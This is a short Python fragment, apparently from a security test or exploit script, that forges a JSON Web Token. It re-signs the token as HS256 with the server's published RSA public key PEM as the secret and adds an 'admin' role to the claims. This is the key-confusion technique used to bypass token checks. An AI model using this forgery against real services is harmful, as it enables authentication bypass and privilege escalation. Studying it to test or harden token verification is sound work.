# requirement: the very bytes of the PEM
forged = mine.sign_hs256(
    {**header, "alg": "HS256"},
    {**json.loads(claims), "roles": ["admin"]},
    pem_of(mine.find_key(published, header["kid"])).strip(),
)
